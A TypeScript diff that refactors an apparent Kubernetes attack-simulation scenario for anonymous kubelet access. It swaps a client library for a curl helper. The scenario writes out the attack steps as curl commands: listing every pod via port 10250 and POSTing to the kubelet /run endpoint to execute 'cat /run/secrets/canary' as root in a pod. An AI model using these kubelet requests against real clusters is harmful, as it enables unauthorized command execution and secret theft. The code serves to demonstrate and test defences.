@@ -1,6 +1,6 @@
-import { KubeClient } from '../../client/kube-client';
 import { addresses, ports } from '../addresses';
 import { defenceSettings } from '../defences';
+import { curl } from './curl';
 import type { Scenario } from './scenario';
 
 /** Source: cmd/kubelet/app/options/options.go (applyLegacyDefaults), pkg/kubelet/server/server.go. */
@@ -27,45 +27,26 @@ export const anonymousKubelet: Scenario = {
     cluster.container({ namespace: 'default', pod: 'web', container: 'web' }).plant(secret);
     stage.did('admin', 'kubectl run web', 'pod/web runs on node-1 and holds a secret in a file');
 
-    await using nobody = new KubeClient({
-      from: cluster.attackerHost,
-      server: { host: addresses.node1, port: ports.kubelet },
-      trust: { kind: 'verify-nobody' },
-    });
     const { signal } = stage;
-    const pods = await nobody.request('GET', '/pods', { signal });
+    const kubelet = `https://${addresses.node1}:${ports.kubelet}`;
+    const pods = await curl(cluster.attackerHost, `${kubelet}/pods`, { signal });
     if (pods.ok) {
-      const names = (pods.json() as { items: { metadata: { name: string } }[] }).items.map(
-        ({ metadata }) => metadata.name,
-      );
+      const { items } = JSON.parse(pods.body) as { items: { metadata: { name: string } }[] };
+      const names = items.map(({ metadata }) => metadata.name).join(', ');
       stage.gained(
         'attacker',
         'curl -k https://node-1:10250/pods',
-        names.join(', '),
+        names,
         'every pod of the node, with its spec',
       );
-    } else stage.refused('attacker', 'curl -k https://node-1:10250/pods', answerOf(pods));
+    } else stage.refused('attacker', 'curl -k https://node-1:10250/pods', pods.words);
 
     const command = encodeURIComponent('cat /run/secrets/canary');
-    const run = await nobody.request('POST', `/run/default/web/web?cmd=${command}`, { signal });
-    const text = run.body.toString('utf8').trim();
-    if (run.ok && text.includes(secret)) {
-      stage.gained(
-        'attacker',
-        'curl -k -XPOST "https://node-1:10250/run/default/web/web?cmd=cat …"',
-        text,
-        'a command run as root in default/web, and its secret',
-      );
-    } else {
-      stage.refused(
-        'attacker',
-        'curl -k -XPOST "https://node-1:10250/run/default/web/web?cmd=cat …"',
-        answerOf(run),
-      );
-    }
+    const path = `/run/default/web/web?cmd=${command}`;
+    const run = await curl(cluster.attackerHost, `${kubelet}${path}`, { method: 'POST', signal });
+    const did = 'curl -k -XPOST "https://node-1:10250/run/default/web/web?cmd=cat …"';
+    if (run.body.includes(secret)) {
+      stage.gained('attacker', did, run.body.trim(), 'a command run as root in default/web, and its secret');
+    } else stage.refused('attacker', did, run.words);
   },
 };
-
-function answerOf({ status, body, words }: { status: number; body: Buffer; words: string }): string {
-  return status === 0 ? words : `${status} ${body.toString('utf8').trim()}`;
-}
